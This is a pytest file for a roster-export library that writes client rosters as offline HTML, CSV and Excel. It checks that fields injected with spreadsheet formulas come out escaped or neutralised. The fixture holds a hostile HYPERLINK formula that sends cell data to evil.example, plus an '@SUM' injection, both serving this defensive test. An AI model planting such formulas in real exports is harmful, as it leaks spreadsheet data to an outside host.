"""The roster as files: the HTML page (offline), CSV and Excel, no cell a formula."""

from __future__ import annotations

import datetime as dt
import io
import re
import shutil
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from careerlib.exceptions import ExportError, UsageError
from careerlib.roster_files import (
    roster_csv,
    roster_html,
    roster_xlsx,
    spreadsheet_safe,
    write_roster,
)
from careerlib.roster_status import COLUMNS, read_roster
from careerlib.tables import roster_table
from tests.conftest import DATA, chromium_dom, need_browser

FOLDER = DATA / "roster"
DAY = dt.date(2026, 2, 2)
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture(scope="module")
def practice():
    return read_roster(FOLDER, DAY)


@pytest.fixture
def hostile(tmp_path: Path):
    """The roster with a client whose name and role a spreadsheet would run as formulas."""
    folder = tmp_path / "roster"
    shutil.copytree(FOLDER, folder)
    text = (folder / "late.yaml").read_text()
    text = text.replace("name: Lee Late", f"name: '{HOSTILE}'")
    (folder / "late.yaml").write_text(text)
    role = (folder / "roles" / "analyst.yaml").read_text()
    (folder / "roles" / "analyst.yaml").write_text(
        role.replace("title: Data Analyst", "title: '@SUM(1+1)'")
    )
    return read_roster(folder, DAY)


def test_roster_table(practice) -> None:
    table = roster_table(practice).cells
    assert table.iloc[0].to_dict() == {
        "Client": "Lee Late",
        "Status": "late",
        "Target role": "Data Analyst",
        "Target": "27 Feb 2026",
        "Forecast finish": "4 Mar 2026",
        "Slack or late": "3 days late",
        "Last check-in": "30 Jan 2026",
        "Next latest start (2 weeks)": "SQL course by 9 Feb 2026",
        "Gaps no step addresses": "1 (19 not rated)",
    }
    stale = table.set_index("Client").loc["Stu Stale"]
    assert stale["Last check-in"] == "16 Jan 2026 (stale, weekly)"
    assert stale["Slack or late"] == "1 day slack"
    assert table.set_index("Client").loc["Ada Ahead", "Next latest start (2 weeks)"] == "none"


def test_roster_table_colours_the_statuses(practice) -> None:
    page = roster_table(practice).to_html()
    assert "background-color: #C0392B" in page  # late
    assert "Lee Late" in page


def test_html_is_one_page_that_needs_no_network(practice) -> None:
    page = roster_html(practice).decode("utf-8")
    assert page.startswith("<!DOCTYPE html>")
    assert "<title>The practice on 2 Feb 2026</title>" in page
    assert not re.search(r"<(script|link)[^>]*\b(src|href)=", page)  # nothing from elsewhere
    assert "plotly.js" in page and len(page) > 3_000_000  # inlined
    assert page.index("Lee Late") < page.index("Ada Ahead")
    assert "Client files not read" in page and "broken.yaml:3: this is not valid YAML" in page


def test_html_escapes_what_the_files_say(hostile) -> None:
    page = roster_html(hostile, include_plotlyjs="cdn").decode("utf-8")
    assert "&quot;http://evil.example/?x=&quot;&amp;A1" in page
    assert '"http://evil.example/?x="&A1' not in page.split("<script")[0]


def test_html_draws_in_chromium_without_network(practice, tmp_path: Path) -> None:
    need_browser()
    dom = chromium_dom(write_roster(practice, tmp_path / "roster.html"))
    assert 'class="main-svg"' in dom  # plotly.js ran and drew the chart
    assert "Stu Stale *" in dom  # the chart's own labels, drawn by plotly.js
    assert "SQL course by 9 Feb 2026" in dom


def test_csv_holds_every_column_and_no_formula(practice, hostile) -> None:
    frame = pd.read_csv(io.BytesIO(roster_csv(practice)))
    assert frame["client"].tolist()[:2] == ["Lee Late", "Ben Behind"]
    assert frame.loc[0, "next_latest_start"] == "2026-02-09"
    back = pd.read_csv(io.BytesIO(roster_csv(hostile)), dtype=str, keep_default_na=False)
    assert "'" + HOSTILE in back["client"].tolist()
    assert set(back["target_role"]) == {"'@SUM(1+1)"}
    cells = [v for col in back.columns for v in back[col]] + list(back.columns)
    assert not [v for v in cells if v.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_xlsx_has_dates_colours_and_no_formula(practice, hostile) -> None:
    book = openpyxl.load_workbook(io.BytesIO(roster_xlsx(practice)))
    assert book.sheetnames == ["Roster", "Problems", "About the columns"]
    sheet = book["Roster"]
    header = [c.value for c in sheet[1]]
    assert header[:3] == ["Client", "Status", "Target role"]
    assert "Slack left (working days)" in header and "Check-in overdue" in header
    assert not [h for h in header if "_" in h]
    assert sheet["A2"].value == "Lee Late" and sheet["B2"].value == "late"
    col = {h: k + 1 for k, h in enumerate(header)}
    target = sheet.cell(row=2, column=col["Target date"])
    assert target.value == dt.datetime(2026, 2, 27) and target.number_format == "d mmm yyyy"
    assert sheet["B2"].fill.fgColor.rgb.endswith("C0392B")
    overdue = {sheet.cell(row=r, column=col["Check-in overdue"]).value for r in range(2, 6)}
    assert overdue <= {"yes", "no"} and overdue  # words, never TRUE/FALSE
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if isinstance(c.value, bool)]
    done = sheet.cell(row=2, column=col["Work done"])
    assert 0 <= done.value <= 1 and done.number_format == "0%"
    assert sheet.freeze_panes == "B2" and sheet.column_dimensions["A"].width >= 20
    problems = list(book["Problems"].iter_rows(values_only=True))
    assert problems[0] == ("Client file", "What went wrong")
    assert problems[1][1].startswith(str(FOLDER / "broken.yaml"))
    explained = list(book["About the columns"].iter_rows(values_only=True))
    assert [r[0] for r in explained[1:]] == header
    assert {r[2] for r in explained[1:]} == set(COLUMNS)  # every CSV column, explained
    book = openpyxl.load_workbook(io.BytesIO(roster_xlsx(hostile)))
    cells = [c for row in book["Roster"].iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula anywhere
    assert "'" + HOSTILE in [c.value for c in cells]


def test_spreadsheet_safe_leaves_numbers_and_plain_text() -> None:
    frame = pd.DataFrame({"a": ["-3", "ok", "+x", "\tx"], "n": [-1, 2, 3, 4]})
    got = spreadsheet_safe(frame)
    assert got["a"].tolist() == ["'-3", "ok", "'+x", "'\tx"]
    assert got["n"].tolist() == [-1, 2, 3, 4]


def test_write_roster_by_suffix(practice, tmp_path: Path) -> None:
    for suffix in (".html", ".csv", ".xlsx"):
        path = write_roster(practice, tmp_path / f"roster{suffix}")
        assert path.stat().st_size > 1000
    with pytest.raises(
        UsageError, match=r"cannot write a roster as '\.pdf'; valid: \.html, \.csv, \.xlsx"
    ):
        write_roster(practice, tmp_path / "roster.pdf")
    with pytest.raises(ExportError, match="does not exist"):
        write_roster(practice, tmp_path / "nowhere" / "roster.csv")
